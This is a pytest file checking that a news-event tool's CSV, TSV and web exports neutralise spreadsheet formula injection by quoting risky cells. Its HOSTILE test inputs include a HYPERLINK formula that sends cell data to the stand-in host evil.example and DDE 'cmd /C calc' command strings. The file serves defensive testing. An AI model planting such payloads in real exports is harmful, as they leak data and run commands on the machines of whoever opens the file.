"""The one CSV writer: cells a spreadsheet would run as formulas are neutralised in every CSV
output (issue 9), numbers are left as numbers."""

import csv
import io

import pytest
from click.testing import CliRunner

from tieline.cli import cli
from tieline.csvfile import safe_cell, write_csv
from tieline.store import Store

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csvfile_safe_cell_prefixes_formulas_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5.0, -3.7, 0, 12, None, True, "-3.7000", "+12", "-1e5", "Iran-Iraq", "", "a=b"])
def test_csvfile_safe_cell_leaves_numbers_and_plain_text(value):
    assert safe_cell(value) == value


def test_csvfile_write_csv_header_rows_and_delimiter():
    out = io.StringIO()
    assert write_csv([["=1+1", -5.0, "x\ty"]], out, columns=["a", "b", "c"], delimiter="\t") == 1
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter="\t")) == [["a", "b", "c"], ["'=1+1", "-5.0", "x\ty"]]


@pytest.fixture
def hostile_db(tmp_path, make_coded):
    """Stories whose sentence, actor name and URL are spreadsheet formulas, with negative numbers."""
    path = tmp_path / "hostile.duckdb"
    documents = [make_coded(f"h{n}", f"story {n}", sentence=value, actor_name=value, url=value, source=value,
                            score=-5.0, lon=-3.7) for n, value in enumerate(HOSTILE[:4])]
    with Store(path) as store:
        store.write(documents)
    return path


def _cells(text: str, delimiter: str = ",", **options) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, **options))


def _assert_neutralised(rows: list[list[str]], *, numbers: dict[int, str]) -> None:
    """No cell starts a formula (a number may start with '-'), and the hostile text is there, quoted."""
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a number may start so
    for value in HOSTILE[:4]:
        assert any(cell.startswith(("'" + value, "'" + value.upper())) for cell in cells), value
    for column, number in numbers.items():
        assert {row[column] for row in rows} == {number}


def test_csvfile_every_csv_output_neutralises_formulas(hostile_db, tmp_path):
    runner = CliRunner()
    # export --format csv
    target = tmp_path / "e.csv"
    assert runner.invoke(cli, ["export", str(target), "--db", str(hostile_db), "--format", "csv"]).exit_code == 0
    header, *rows = _cells(target.read_text(encoding="utf-8"))
    assert len(rows) == 4
    _assert_neutralised(rows, numbers={header.index("score"): "-5.0", header.index("lon"): "-3.7"})
    # events --format csv
    listed = runner.invoke(cli, ["events", "--db", str(hostile_db), "--format", "csv"])
    assert listed.exit_code == 0
    header, *rows = _cells(listed.stdout)
    assert len(rows) == 4
    _assert_neutralised(rows, numbers={header.index("score"): "-5.0"})
    # GDELT: no header, tab-separated; longitude as GDELT writes it
    gdelt = tmp_path / "e.gdelt.tsv"
    assert runner.invoke(cli, ["export", str(gdelt), "--db", str(hostile_db), "--format", "gdelt"]).exit_code == 0
    from tieline.export import GDELT_COLUMNS, POLECAT_COLUMNS

    rows = _cells(gdelt.read_text(encoding="utf-8"), "\t", quoting=csv.QUOTE_NONE, escapechar="\\")
    assert len(rows) == 4 and all(len(r) == len(GDELT_COLUMNS) for r in rows)
    _assert_neutralised(rows, numbers={GDELT_COLUMNS.index("ActionGeo_Long"): "-3.7000"})
    # POLECAT: tab-separated with a header
    polecat = tmp_path / "e.polecat.tsv"
    assert runner.invoke(cli, ["export", str(polecat), "--db", str(hostile_db), "--format", "polecat"]).exit_code == 0
    header, *rows = _cells(polecat.read_text(encoding="utf-8"), "\t")
    assert header == list(POLECAT_COLUMNS) and len(rows) == 4
    _assert_neutralised(rows, numbers={POLECAT_COLUMNS.index("Event Intensity"): "-5.0",
                                       POLECAT_COLUMNS.index("Longitude"): "-3.7"})


def test_csvfile_web_events_csv_neutralises_formulas(hostile_db):
    from fastapi.testclient import TestClient

    from tieline.web import create_app

    with TestClient(create_app(hostile_db), base_url="http://127.0.0.1", raise_server_exceptions=False) as client:
        response = client.get("/events.csv")
    assert response.status_code == 200
    header, *rows = _cells(response.text)
    assert len(rows) == 4
    _assert_neutralised(rows, numbers={header.index("score"): "-5.0"})


def test_frame_csv_quotes_text_and_joins_list_cells():
    import io

    import numpy as np
    import pandas as pd

    from tieline.csvfile import write_frame_csv

    out = io.StringIO()
    write_frame_csv(pd.DataFrame({"partner": ["QAT"], "events": [2], "fields": [np.array(["banking", "energy"])],
                                  "cameo": ["040"]}), out)
    assert out.getvalue().splitlines() == ["partner,events,fields,cameo", '"QAT",2,"banking|energy","040"']
